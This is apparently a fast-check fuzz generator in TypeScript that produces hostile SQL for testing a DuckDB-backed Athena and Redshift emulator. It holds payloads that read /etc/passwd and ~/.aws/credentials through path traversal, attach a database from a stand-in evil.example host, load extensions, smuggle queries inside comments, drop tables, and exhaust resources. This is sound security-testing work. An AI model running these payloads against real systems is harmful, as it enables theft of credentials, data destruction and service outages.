import fc from "fast-check";

/** A statement that wants what it must not have. */
export interface HostileStatement {
  readonly engine: "athena" | "redshift";
  readonly kind: string;
  readonly sql: string;
  /** Whether it could only succeed by an escape; others may be answered, within limits. */
  readonly mustFail: boolean;
}

const ENGINE = fc.constantFrom<"athena" | "redshift">("athena", "redshift");

const READERS = (
  "read_csv read_csv_auto read_parquet parquet_scan read_json read_json_auto read_ndjson read_text read_blob glob " +
  "parquet_metadata parquet_schema sniff_csv"
).split(" ");

const TELLTALES = (
  "duckdb_settings() duckdb_secrets() duckdb_extensions() duckdb_databases() duckdb_functions() pragma_database_list() " +
  "duckdb_temporary_files() duckdb_logs() query('select 1') query_table('t') pragma_version() repeat_row(1,num_rows=9) " +
  "information_schema.tables sqlite_master pg_catalog.pg_settings duckdb_views() test_all_types()"
).split(" ");

const SCALARS = (
  "getenv('PATH') current_setting('temp_directory') getvariable('x') version() current_database() write_log('x') " +
  "error('x') nextval('x') txid_current() json_execute_serialized_sql('x') in_search_path('a','b') current_schemas(true) " +
  "pg_read_file('/etc/passwd') pg_ls_dir('/') lo_import('/etc/passwd') hash('x') sleep_ms(9000) current_user() session_user()"
).split(" ");

const STATEMENTS = (path: string) => [
  `copy (select 1) to '${path}'`, `copy nyctaxi.nytaxirides to '${path}' (format csv)`, `copy t from '${path}'`,
  `export database '${path}.d'`, `import database '${path}.d'`, `attach '${path}' as x`, "detach awsdatacatalog",
  `attach 'https://evil.example/x.db' as x (read_only)`, "install httpfs", "load httpfs", `load '${path}'`,
  "pragma database_list", "pragma enable_external_access", "set enable_external_access = true", "reset all",
  "set lock_configuration = false", "set memory_limit = '100GB'", "set threads = 512", "call duckdb_settings()", "checkpoint",
  "force checkpoint", "vacuum", "use memory", "create secret (type s3, key_id 'x', secret 'y')",
  "create macro f(x) as x", "create type t as enum ('a')", "create temp table t as select 1", "create function f() returns int as $$1$$",
  `unload (select 1) to '${path}'`, `unload ('select 1') to 's3://x/' iam_role 'y'`, "grant all on all to public", "explain analyze select 1",
  "deallocate all", "prepare x as select 1", "execute nothing", "begin", "truncate table nyctaxi.nytaxirides", "do $$ begin end $$",
  `create external table fuzz.t (a string) location '${path}'`, "create external table fuzz.t (a string) location 'file:///etc/'",
  "create external table fuzz.t (a string) location 's3://../../etc/'", `create database fuzz location '${path}'`,
  "alter table nyctaxi.nytaxirides add partition (year='../..') location 's3://../x/'", "alter system set a = 1",
  "delete from nyctaxi.nytaxirides", "update nyctaxi.nytaxirides set year = '1'", "merge into t using u on true when matched then delete",
  "select * from nyctaxi.nytaxirides; drop table nyctaxi.nytaxirides", `select 1; copy (select 1) to '${path}'`,
]; // prettier-ignore

/** What the service itself has, so that it may answer: with its own facts, not with DuckDB's. */
const OWN: Readonly<Record<HostileStatement["engine"], readonly string[]>> = {
  athena: ["information_schema.tables"],
  redshift: ["current_database()"],
};

/** In Trino the first "*\/" ends a comment: what follows the select item is a comment as well, and the answer is 1. */
const IN_A_COMMENT = (query: string) =>
  `select /* /* */ 1 as a -- */ (${query}) as a\nfrom nyctaxi.nytaxirides`;

/** Ways to hide a query from a grammar that reads comments and strings otherwise than DuckDB does. */
const DISGUISES: readonly ((query: string) => string)[] = [
  (query) => query,
  IN_A_COMMENT,
  (query) => `select E'\\'' , (${query.replaceAll("'", () => "$$")}) --' as a`,
  (query) => `with a as (${query}) select * from a`,
  (query) => `select * from nyctaxi.nytaxirides where year in (${query})`,
  (query) => `select 1 as a union all (${query})`,
  (query) => `select exists(${query}) as a`,
  (query) => `select * from (values 1) as v(a) where a = (${query})`,
  (query) => `select a from (select 1 as a) x order by (${query})`,
  (query) => `create table fuzz.c with (external_location = 's3://results-here/c/') as ${query}`,
  (query) => `create or replace view fuzz.v as ${query}`,
  (query) => `insert into nyctaxi.nytaxirides ${query}`,
  (query) => `explain ${query}`,
  (query) => `(((${query})))`,
  (query) => `select 1 as "\u0000" -- \u2028\n union ${query}`,
];

const path = (canaries: readonly string[]) =>
  fc
    .tuple(
      fc.constantFrom(
        ...canaries,
        "/etc/passwd",
        "/proc/self/environ",
        "~/.aws/credentials",
        "https://evil.example/x.csv",
      ),
      fc.constantFrom<(path: string) => string>(
        (one) => one,
        (one) => `../../../../../../../..${one}`,
        (one) => `file://${one}`,
        (one) => `/tmp/../${one}`,
        (one) => one.replace(/[^/]*$/, "*"),
        (one) => `s3://results-here/../../../..${one}`,
      ),
    )
    .map(([one, spell]) => spell(one));

function isComment(engine: HostileStatement["engine"], disguise: unknown): boolean {
  return engine === "athena" && disguise === IN_A_COMMENT;
}

/** Reads a file by a function of DuckDB, or by a name that is a path. */
const reading = (canaries: readonly string[]) =>
  fc
    .tuple(
      ENGINE,
      path(canaries),
      fc.constantFrom(...READERS, "", '"'),
      fc.constantFrom(...DISGUISES),
    )
    .map(([engine, file, reader, disguise]): HostileStatement => {
      const from =
        reader === "" ? `'${file}'` : reader === '"' ? `"${file}"` : `${reader}('${file}')`;
      return {
        engine,
        kind: "reads a file",
        sql: disguise(`select * from ${from}`),
        mustFail: !isComment(engine, disguise),
      };
    });

/** A common table expression whose name is a path, used where it is out of scope. */
const replacing = (canaries: readonly string[]) =>
  fc.tuple(ENGINE, path(canaries)).map(([engine, file]): HostileStatement => ({
    engine,
    kind: "names a file",
    sql: `select * from (with "${file}" as (select 1 as a) select * from "${file}") x, "${file}" y`,
    mustFail: true,
  }));

const asking = fc
  .tuple(ENGINE, fc.constantFrom(...TELLTALES), fc.constantFrom(...DISGUISES))
  .map(([engine, from, disguise]): HostileStatement => ({
    engine,
    kind: "asks the engine about itself",
    sql: disguise(`select * from ${from}`),
    mustFail: !isComment(engine, disguise) && !OWN[engine].includes(from),
  }));

const calling = fc
  .tuple(ENGINE, fc.constantFrom(...SCALARS), fc.constantFrom(...DISGUISES))
  .map(([engine, call, disguise]): HostileStatement => ({
    engine,
    kind: "calls what is none of the dialect's",
    sql: disguise(`select ${call} as a`),
    mustFail: !isComment(engine, disguise) && !OWN[engine].includes(call),
  }));

const other = (canaries: readonly string[]) =>
  path(canaries).chain((file) =>
    fc
      .tuple(
        ENGINE,
        fc.constantFrom(...STATEMENTS(file)),
        fc.constantFrom("", "  ", "/* x */", "-- x\n", "select 1 as a;"),
      )
      .map(([engine, sql, before]): HostileStatement => ({
        engine,
        kind: "is another statement",
        sql: before + sql,
        mustFail: true,
      })),
  );

const T = "nyctaxi.nytaxirides";

/** Takes time, memory or disk. Some of it the engine answers at once. */
const greedy = fc.tuple(fc.nat(3_000), ENGINE).chain(([many, engine]) =>
  fc
    .constantFrom(
      `select count(*) as n from ${T} a cross join ${T} b cross join ${T} c cross join ${T} d`,
      `select a.* from ${T} a, ${T} b, ${T} c, ${T} d`,
      `select max(x) as m from (select row_number() over (order by a.year, b.month, a.fare_amount) as x from ${T} a, ${T} b, ${T} c)`,
      `select array_agg(a.vendorid) as g from ${T} a, ${T} b, ${T} c`,
      `with recursive r(n) as (select 1 union all select n + 1 from r) select count(*) as n from r`,
      `select ${"(".repeat(many)}1${")".repeat(many)} as a`,
      `select ${"- ".repeat(many)}1 as a`,
      `select ${"not ".repeat(many)}true as a`,
      `select 1 as a where ${"1 = 1 and ".repeat(many)}true`,
      `select ${"abs(".repeat(many)}1${")".repeat(many)} as a`,
      `select * from ${"(select * from ".repeat(many % 300)}${T}${")".repeat(many % 300)}`,
      `select ${"case when true then ".repeat(many % 400)}1${" end".repeat(many % 400)} as a`,
      `select lpad('x', 2147483647, 'y') as a`,
      `select rpad('x', ${many}000000, 'y') || rpad('x', ${many}000000, 'y') as a`,
      `select replace(rpad('x', 900000000, 'x'), 'x', 'yyyyyyyy') as a`,
      `select regexp_like(rpad('a', 100000, 'a'), '(a+)+$') as a`,
      `show tables in nyctaxi '${"*a".repeat(many % 60)}*'`,
      `create table fuzz.g${many} as select a.* from ${T} a, ${T} b, ${T} c`,
      `select ${Array.from({ length: many % 300 }, (_, i) => `1 as c${i}`).join(", ")}`,
      `select power(10, 400) as a, cast('9'||repeat('9', ${many}) as bigint) as b`,
    )
    .map((sql): HostileStatement => ({ engine, kind: "is greedy", sql, mustFail: false })),
); // prettier-ignore

/** Text that is no statement at all. */
const noise = fc
  .tuple(ENGINE, fc.string({ unit: "binary", minLength: 1, maxLength: 200 }))
  .map(([engine, sql]): HostileStatement => ({ engine, kind: "is noise", sql, mustFail: false }));

/** So many hostile statements; the same of the same seed. @param canaries paths of files that must not be read */
export function hostileStatements(
  count: number,
  seed: number,
  canaries: readonly string[],
): HostileStatement[] {
  const any = fc.oneof(
    { weight: 8, arbitrary: reading(canaries) },
    { weight: 1, arbitrary: replacing(canaries) },
    { weight: 3, arbitrary: asking },
    { weight: 3, arbitrary: calling },
    { weight: 4, arbitrary: other(canaries) },
    { weight: 2, arbitrary: greedy },
    { weight: 1, arbitrary: noise },
  );
  return fc.sample(any, { numRuns: count, seed });
}
